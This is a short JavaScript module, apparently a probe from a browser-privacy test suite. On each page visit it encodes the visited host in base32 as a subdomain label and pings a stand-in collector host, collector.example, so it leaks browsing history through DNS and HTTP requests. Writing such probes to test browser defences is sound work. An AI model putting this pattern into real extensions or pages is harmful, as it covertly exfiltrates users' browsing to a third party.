import { base32, hostOf, onVisit, reportHonestly, tryTo } from '../../lib/proving.js';

/** Names the host of each page in base32, in the label of a subdomain. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-host-label');
  onVisit(browser, ({ url }) => {
    const label = base32(browser.codec.utf8.encode(hostOf(url)));

    return tryTo(browser, { url: `https://${label}.host-label.collector.example/ping` });
  });
}
